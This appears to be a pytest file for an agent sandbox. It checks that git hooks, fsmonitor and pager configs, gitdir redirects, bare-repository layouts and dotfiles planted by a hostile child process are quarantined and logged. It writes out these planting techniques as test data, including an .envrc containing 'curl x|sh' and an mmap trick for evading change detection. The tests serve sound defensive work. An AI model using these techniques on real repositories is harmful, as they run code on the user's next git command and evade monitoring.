"""Protected names an exec child plants where the read-only binds cannot reach — in folders it makes during the
call, deeper than the scan's two levels, moved in from its own tmp folder, in a bare repository's layout —
are moved to the quarantine folder once the call's processes are gone, each recorded in the ledger with an
alert. A repository an agent makes in the usual way is left alone. Both ways the call's changes are found are
run: the inotify account, and the walk that replaces it when that account is incomplete."""

from __future__ import annotations

import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from pi_sandbox.sandbox import launch, watch
from tests.sandbox.conftest import Host, stand_ins_removed

HOOK = "printf '#!/bin/sh\\ntouch \"$PWNED\"\\n'"
PLANTS = {
    "new_repo_hook": (f"mkdir -p a/b/c && git init -q a/b/c && {HOOK} > a/b/c/.git/hooks/pre-commit && "
                      "chmod +x a/b/c/.git/hooks/pre-commit", ["a/b/c/.git/hooks/pre-commit"]),
    "new_repo_fsmonitor": ("git init -q x/y/z && git -C x/y/z config core.fsmonitor 'touch \"$PWNED\"; false'",
                           ["x/y/z/.git/config"]),
    "git_file_redirect": ("mkdir -p evil/hooks evil/objects evil/refs && echo 'ref: refs/heads/main' > evil/HEAD && "
                          "printf '[core]\\n\\tfsmonitor = \"touch $PWNED; false\"\\n' > evil/config && "
                          "mkdir -p d1/d2/d3/sub && echo 'gitdir: ../../../../evil' > d1/d2/d3/sub/.git",
                          ["d1/d2/d3/sub/.git", "evil/config"]),
    "dotfiles_in_new_folders": ("mkdir -p n1 n2/.vscode p/q/r/s/.pi/extensions && echo 'curl x|sh' > n1/.envrc && "
                                "echo {} > n2/.vscode/tasks.json && echo evil > p/q/r/s/.pi/extensions/e.ts && "
                                "echo '{}' > p/q/r/.mcp.json && echo evil > p/q/.bashrc",
                                ["n1/.envrc", "n2/.vscode", "p/q/r/s/.pi", "p/q/r/.mcp.json", "p/q/.bashrc"]),
    "moved_in_from_tmp": (f'git init -q "$TMPDIR/r" && {HOOK} > "$TMPDIR/r/.git/hooks/post-checkout" && '
                          'mkdir -p m1/m2 && mv "$TMPDIR/r" m1/m2/r', ["m1/m2/r/.git/hooks/post-checkout"]),
    "bare_layout": ("git init -q --bare b1/b2/b3 && git -C b1/b2/b3 config core.pager 'touch \"$PWNED\"' && "
                    f"{HOOK} > b1/b2/b3/hooks/pre-receive", ["b1/b2/b3/config", "b1/b2/b3/hooks/pre-receive"]),
    "bare_layout_config_first": ("mkdir -p k1/k2/k3 && printf '[core]\\n\\tfsmonitor = \"touch $PWNED\"\\n' > "
                                 "k1/k2/k3/config && sleep 0.6 && echo 'ref: refs/heads/main' > k1/k2/k3/HEAD && "
                                 "mkdir k1/k2/k3/objects k1/k2/k3/refs", ["k1/k2/k3/config"]),
    "submodule_in_node_modules": ("mkdir -p node_modules/pkg/.vscode && echo {} > node_modules/pkg/.vscode/x.json "
                                  "&& echo 'gitdir: ../../evil2' > node_modules/pkg/.git",
                                  ["node_modules/pkg/.git"]),
    "renamed_into_place": (f"mkdir -p q1/q2/q3/hk && {HOOK} > q1/q2/q3/hk/pre-push && git init -q q1/q2/q3 && "
                           "mv q1/q2/q3/hk/pre-push q1/q2/q3/.git/hooks/pre-push", ["q1/q2/q3/.git/hooks/pre-push"]),
}


@pytest.fixture(params=["inotify", "walk", "watch_limit"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    if request.param == "walk":  # as when inotify is missing or an event was lost: the whole tree is walked
        monkeypatch.setattr(launch.WATCHER, "begin", lambda root, handler=None, listings=True: False)
    if request.param == "watch_limit":  # no more watches: the folders left out are walked
        monkeypatch.setattr(watch, "MAX_WATCHES", 0)
    yield request.param


def _planted(host: Host) -> list[dict[str, str]]:
    entries = host.box.store.query_ledger(extension_id="ext.hostile")
    return [dict(e.detail) for e in entries if e.kind == "exec_sandbox"]


@pytest.mark.parametrize("plant", sorted(PLANTS))
def test_names_planted_beyond_the_binds_are_quarantined_and_recorded(host: Host, mode: str, plant: str) -> None:
    ws = host.env.workspace
    pwned = host.env.root / "pwned"
    script, gone = PLANTS[plant]
    # No bind reaches there, so the child can make them; each may be moved out before the next step runs (the
    # steps are separated by `;` so that every one is tried).
    host.sh(f"export PWNED={pwned}; " + script.replace(" && ", "; "))
    assert stand_ins_removed()
    for rel in gone:  # ... but they are not there once the call is over
        if rel.endswith("/config"):
            text = (ws / rel).read_text() if (ws / rel).exists() else ""
            assert "fsmonitor" not in text and "pager" not in text, (rel, text)
        else:
            assert not (ws / rel).exists() and not (ws / rel).is_symlink(), rel
    quarantined = list((host.env.state_dir / "quarantine" / "ext.hostile").rglob("*"))
    assert any(p.name in {Path(r).name for r in gone} for p in quarantined), quarantined
    records = _planted(host)
    assert records and all(r["action"] in ("quarantined", "neutralised") for r in records), records
    alerts = [a for a in host.box.store.query_alerts() if "planted_protected_name" in a.reason_codes]
    assert alerts, "no alert"
    # the user's next git in each
    for repo in ("a/b/c", "x/y/z", "d1/d2/d3/sub", "m1/m2/r", "b1/b2/b3", "q1/q2/q3", "k1/k2/k3"):
        if (ws / repo).exists():
            subprocess.run(["git", "-C", str(ws / repo), "status"], capture_output=True, check=False)
            subprocess.run(["git", "-C", str(ws / repo), "log"], capture_output=True, check=False,
                           env={"PATH": "/usr/bin:/bin", "GIT_PAGER": "", "HOME": str(host.env.home)})
    assert not pwned.exists()
    host.unchanged()


@pytest.mark.parametrize("config", [".git/config", ".git/modules/sub/config"])
def test_a_deep_existing_repository_config_changed_by_a_child_is_neutralised(host: Host, mode: str,
                                                                             config: str) -> None:
    ws = host.env.workspace
    repo = ws / "vendor" / "lib" / "inner"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    if "modules" in config:  # a submodule's git dir: git in the submodule's checkout reads this config
        subprocess.run(["git", "init", "-q", "--bare", str(repo / ".git" / "modules" / "sub")], check=True)
    subprocess.run(["git", "config", "-f", str(repo / config), "user.email", "me@example"], check=True)
    pwned = host.env.root / "pwned"
    out = host.sh(f"printf '[core]\\n\\tfsmonitor = \"touch {pwned}; false\"\\n' >> vendor/lib/inner/{config} "
                  "&& echo WROTE")
    assert "WROTE" in out["stdout"], out
    text = (repo / config).read_text()
    assert "fsmonitor" not in text and "me@example" in text, text  # the safe lines stay
    subprocess.run(["git", "-C", str(repo), "status", "--short"], check=True, capture_output=True)
    assert not pwned.exists()
    assert [r["action"] for r in _planted(host)] == ["neutralised"]


def test_a_repository_made_the_usual_way_is_left_alone(host: Host, mode: str) -> None:
    ws = host.env.workspace
    out = host.sh("git init -q newproj/app && cd newproj/app && echo x > f && git add f && "
                  "git -c user.name=t -c user.email=t@e commit -qm one && git remote add origin ../../up.git && "
                  "mkdir -p src/deep/er && echo 'print(1)' > src/deep/er/main.py && echo ok")
    assert out["exit_code"] == 0 and "ok" in out["stdout"], out
    repo = ws / "newproj" / "app"
    assert (repo / ".git" / "config").read_text().count("[remote \"origin\"]") == 1
    assert any(p.name.endswith(".sample") for p in (repo / ".git" / "hooks").iterdir())
    log = subprocess.run(["git", "-C", str(repo), "log", "--oneline"], capture_output=True, text=True, check=True)
    assert len(log.stdout.splitlines()) == 1
    assert _planted(host) == []


def test_the_hooks_path_folder_made_inside_a_new_folder_is_quarantined(host: Host, mode: str) -> None:
    ws = host.env.workspace
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    subprocess.run(["git", "-C", str(ws), "config", "core.hooksPath", "tools/git/hooks"], check=True)
    host.sh(f"mkdir -p tools/git/hooks; {HOOK} > tools/git/hooks/pre-commit")
    assert not (ws / "tools" / "git" / "hooks" / "pre-commit").exists()
    assert [r["protected"] for r in _planted(host)] == ["core.hookspath"]


def test_a_planted_hook_is_moved_out_while_the_call_still_runs(host: Host) -> None:
    """An editor's git integration runs `git status` in a new repository on its own: a planted name must not
    wait for a long command's end. The child sees its hook and its fsmonitor config vanish within the call."""
    out = host.sh(f"git init -q a/b && {HOOK} > a/b/.git/hooks/pre-commit && "
                  "git -C a/b config core.fsmonitor 'touch x'; "
                  "for i in $(seq 100); do if [ ! -e a/b/.git/hooks/pre-commit ] && "
                  "! grep -q fsmonitor a/b/.git/config; then echo GONE-DURING-CALL; break; fi; sleep 0.1; done")
    assert "GONE-DURING-CALL" in out["stdout"], out
    assert sorted(r["action"] for r in _planted(host)) == ["neutralised", "quarantined"]


@pytest.mark.parametrize("order", ["config_first", "layout_first"])
def test_fs_cannot_build_a_bare_repository_with_a_config_of_its_own(host: Host, order: str) -> None:
    """A folder with `HEAD` and `objects/` is a repository to git (a bare one): its config and hooks run like
    `.git`'s. Through fs hostcalls, in either order of the steps, the last step that would plant one is refused."""
    box = host.box
    steps = [("write", "bare/config", "[core]\n\tpager = touch pwned\n"), ("write", "bare/HEAD", "ref: x\n"),
             ("mkdir", "bare/objects", None), ("write", "bare/hooks/pre-receive", "#!/bin/sh\n")]
    if order == "layout_first":
        steps = [steps[1], steps[2], steps[0], steps[3]]
    for folder in ("bare", "bare/hooks") if order == "config_first" else ("bare",):
        assert box.hostcall("ext.hostile", {"call_id": folder, "method": "fs",
                                            "params": {"op": "mkdir", "path": folder}}).ok
    if order == "layout_first":
        steps.insert(3, ("mkdir", "bare/hooks", None))
    results = []
    for n, (op, path, data) in enumerate(steps):
        params = {"op": op, "path": path, **({"data": data} if data is not None else {}), "recursive": True}
        results.append(box.hostcall("ext.hostile", {"call_id": f"b{n}", "method": "fs", "params": params}))
    refused = [r for r in results if not r.ok]
    assert refused and all(r.reason == "protected_path" for r in refused), results
    ws = host.env.workspace
    layout = (ws / "bare" / "HEAD").is_file() and (ws / "bare" / "objects").is_dir()
    hooks = list((ws / "bare" / "hooks").iterdir()) if (ws / "bare" / "hooks").is_dir() else []
    assert not (layout and ((ws / "bare" / "config").exists() or hooks)), results


def test_a_config_changed_through_a_shared_mapping_after_its_last_event_is_judged_at_the_end(host: Host) -> None:
    """A write through a shared mapping after the fd was closed makes no write event of its own (the close event
    comes when the mapping goes, at the latest when the child ends): whatever was judged while the call ran, the
    config is judged again on its final text once the call's processes are gone."""
    ws = host.env.workspace
    repo = ws / "vendor" / "lib" / "inner"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    config = repo / ".git" / "config"
    config.write_text(config.read_text() + "#" * 300 + "\n")
    pwned = host.env.root / "pwned"
    # (ctypes, not the mmap module: that one keeps a duplicate of the fd open, whose close would be an event)
    script = ("import ctypes,os,sys,time\nlibc=ctypes.CDLL(None)\nlibc.mmap.restype=ctypes.c_void_p\n"
              "libc.mmap.argtypes=[ctypes.c_void_p,ctypes.c_size_t,ctypes.c_int,ctypes.c_int,ctypes.c_int,ctypes.c_long]\n"
              "fd=os.open(sys.argv[1],os.O_RDWR); size=os.fstat(fd).st_size; data=os.pread(fd,size,0)\n"
              "addr=libc.mmap(None,size,3,1,fd,0); os.close(fd); time.sleep(0.8)\n"
              "new=('\\n[core]\\n\\tfsmonitor = touch '+sys.argv[2]+'\\n').encode()\n"
              "i=data.index(b'#'*300); ctypes.memmove(addr+i,new,len(new)); print('MAPPED')\ntime.sleep(0.5)")
    out = host.run("python3", "-c", script, "vendor/lib/inner/.git/config", str(pwned))
    assert "MAPPED" in out["stdout"], out
    assert "fsmonitor" not in config.read_text()
    subprocess.run(["git", "-C", str(repo), "status", "--short"], check=True, capture_output=True)
    assert not pwned.exists()


@pytest.mark.parametrize("depth", ["sub", "vendor/lib/inner"])
def test_a_nested_repositorys_hooks_path_and_config_named_scripts_are_protected(host: Host, mode: str,
                                                                               depth: str) -> None:
    """A nested repository's own `core.hooksPath` folder and the scripts its config runs (the user's next git in
    that folder runs them): read-only to a child two levels down, moved out deeper, refused through fs."""
    ws = host.env.workspace
    repo = ws / depth
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    subprocess.run(["git", "-C", str(repo), "config", "core.hooksPath", "hooks2"], check=True)
    subprocess.run(["git", "-C", str(repo), "config", "core.fsmonitor", "tools/fsmon.sh"], check=True)
    (repo / "hooks2").mkdir()
    (repo / "tools").mkdir()
    (repo / "tools" / "fsmon.sh").write_text("#!/bin/sh\nexit 0\n")
    time.sleep(0.1)  # (the walk takes what changed just before a call for the call's: the user's are older)
    host.sh(f"cd {depth}; {HOOK} > hooks2/pre-commit; echo 'touch pwned' >> tools/fsmon.sh")
    assert not (repo / "hooks2" / "pre-commit").exists()
    assert "pwned" not in (repo / "tools" / "fsmon.sh").read_text() if (repo / "tools" / "fsmon.sh").exists() else True
    for n, rel in enumerate(("hooks2/post-commit", "tools/fsmon.sh")):
        result = host.box.hostcall("ext.hostile", {"call_id": f"n{n}", "method": "fs", "params": {
            "op": "write", "path": f"{depth}/{rel}", "data": "evil"}})
        assert (result.ok, result.reason) == (False, "protected_path"), (rel, result)
